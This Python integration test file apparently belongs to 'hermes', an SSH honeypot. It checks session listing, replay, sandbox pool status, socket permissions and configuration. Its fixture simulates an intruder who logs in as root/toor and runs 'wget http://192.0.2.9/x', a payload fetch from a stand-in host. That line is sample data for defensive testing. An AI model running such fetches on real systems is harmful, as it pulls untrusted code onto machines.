"""The commands beside ``hermes up``, run as processes."""

import json
import re
import signal
import subprocess
import sys
from collections.abc import Callable, Iterator

import pytest

from tests.integration.running import Hermes
from tests.integration.terminal import Terminal

Make = Callable[..., Hermes]


@pytest.fixture(scope="module")
def visited(image: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hermes]:
    """A service that two attackers have visited."""
    hermes = Hermes(tmp_path_factory.mktemp("visited"), {"SANDBOX__IMAGE": image})
    hermes.start()
    script = "printf '\\033]0;title\\007\\033[31mred\\033[0m\\n'; exit 3\n"
    subprocess.run(hermes.ssh("-tt"), input=script, text=True, check=False, capture_output=True)
    subprocess.run(hermes.ssh("wget http://192.0.2.9/x; exit 4"), check=False, capture_output=True)
    hermes.closed_sessions(2)
    yield hermes
    hermes.stop()


def ids(hermes: Hermes, *filters: str) -> list[str]:
    """List the ids that the filters leave."""
    listed = json.loads(hermes.cli("sessions", "list", "--json", *filters).stdout)
    return [session["session"] for session in listed]


def test_sessions_are_listed_newest_first_and_filtered(visited: Hermes) -> None:
    """Every filter of the list keeps what it names and nothing else."""
    shell, wget = [session["session"] for session in visited.sessions()]
    assert ids(visited) == [wget, shell]
    assert ids(visited, "--limit", "1") == [wget]
    assert ids(visited, "--command", "192.0.2.9") == [wget]
    assert ids(visited, "--ip", "198.51.100.1") == []
    assert ids(visited, "--user", "root", "--since", "1h") == [wget, shell]
    assert ids(visited, "--since", "2100-01-01") == []
    table = visited.cli("sessions", "list").stdout
    assert table.index(wget) < table.index(shell)
    assert "wget http://192.0.2.9/x" in table
    assert visited.cli("sessions", "list", "--user", "nobody").stdout.startswith("no sessions")


def test_a_session_is_told(visited: Hermes) -> None:
    """Show says who, with what, what was run, and how it ended; a prefix of the id will do."""
    wget = ids(visited)[0]
    told = visited.cli("sessions", "show", wget[:8]).stdout
    for words in ("127.0.0.1", "SSH-2.0-OpenSSH", "root / toor", "exit 4", "closed by client"):
        assert words in told
    document = json.loads(visited.cli("sessions", "show", wget, "--json").stdout)
    assert document["channels"][0]["exit_status"] == 4


def test_a_terminal_is_replayed_without_what_reaches_outside(visited: Hermes) -> None:
    """Play keeps colours and leaves out titles and the like."""
    shell = ids(visited)[1]
    played = visited.cli("sessions", "play", shell, "--speed", "100", "--max-idle", "0").stdout
    assert "\x1b[31mred\x1b[0m" in played
    assert "\x1b]0;" not in played
    missing = visited.cli("sessions", "play", shell, "--channel", "7", check=False)
    assert "has no channel 7; it has 0" in missing.stderr


def test_streams_are_shown(visited: Hermes) -> None:
    """Play of a channel without a terminal shows command, streams and status."""
    played = visited.cli("sessions", "play", ids(visited)[0]).stdout
    assert played.startswith("$ wget http://192.0.2.9/x")
    assert "--- stderr" in played
    assert played.endswith("--- exit 4\n")


def test_the_pool_is_shown(visited: Hermes) -> None:
    """Pool status shows the sandboxes as a table, and as the documented JSON."""
    table = visited.cli("pool", "status").stdout
    assert "of 3 warm" in table
    pool = visited.pool()
    keys = {"target", "warm", "leased", "lingering", "starting", "max", "limits_enforced"}
    assert set(pool) == keys | {"sandboxes"}
    row = {"id", "name", "state", "age_seconds", "session", "visitor", "supervised"}
    assert all(set(box) == row for box in pool["sandboxes"])


def test_the_control_socket_is_for_its_owner(visited: Hermes) -> None:
    """Nobody else can open the socket that answers pool status."""
    mode = (visited.directory / "run" / "control.sock").stat().st_mode
    assert mode & 0o777 == 0o600


def test_the_panel_shows_pool_sessions_and_events(make_hermes: Make) -> None:
    """On a terminal hermes up draws its state, and gives the terminal back at the end."""
    hermes = make_hermes(POOL__SIZE="1")
    with Terminal([sys.executable, "-m", "hermes", "up"], hermes) as terminal:
        seen = terminal.until(r"listening on 127\.0\.0\.1:(\d+)")
        hermes.port = int(seen[1])
        terminal.until("1 of 1 warm")
        terminal.until("limits .*are not enforced|sessions: 0 now")
        subprocess.run(hermes.ssh("echo hello"), check=True, capture_output=True)
        terminal.until("exec echo hello")
        terminal.process.send_signal(signal.SIGINT)
        assert terminal.process.wait(20) == -signal.SIGINT
        terminal.until(r"\x1b\[\?1049l")
    assert hermes.containers() == []


def test_settings_are_checked_and_shown(make_hermes: Make) -> None:
    """Config check and show tell file, environment and default apart."""
    hermes = make_hermes(POOL__SIZE="2")
    file = hermes.directory / "hermes.env"
    file.write_text("HERMES_SENSOR=north\nHERMES_POOL__SIZE=7\n")
    (hermes.directory / "userdb.txt").write_text("root:x:*\n")
    assert "settings are right" in hermes.cli("config", "check", "--env-file", str(file)).stdout
    shown = json.loads(hermes.cli("config", "show", "--json", "--env-file", str(file)).stdout)
    assert shown["HERMES_POOL__SIZE"] == {"value": "2", "source": "environment"}
    assert shown["HERMES_SENSOR"] == {"value": "north", "source": str(file)}
    assert shown["HERMES_POOL__MAX"] == {"value": "20", "source": "default"}
    assert shown["HERMES_AUTH__USERDB"]["value"] == str(file.with_name("userdb.txt"))
    assert "HERMES_SANDBOX__PIDS" in hermes.cli("config", "show").stdout


def test_the_version_and_help_are_told(make_hermes: Make) -> None:
    """--version, help of every command, and shell completion work."""
    hermes = make_hermes()
    assert re.fullmatch(r"hermes \d+\.\d+\.\d+\n", hermes.cli("--version").stdout)
    for command in ("up", "doctor", "pool", "sessions", "image", "config"):
        assert "Usage: hermes " + command in hermes.cli(command, "--help").stdout
    hermes.environment |= {"_HERMES_COMPLETE": "complete_bash", "COMP_WORDS": "hermes p"}
    hermes.environment["COMP_CWORD"] = "1"
    assert "pool" in hermes.cli().stdout
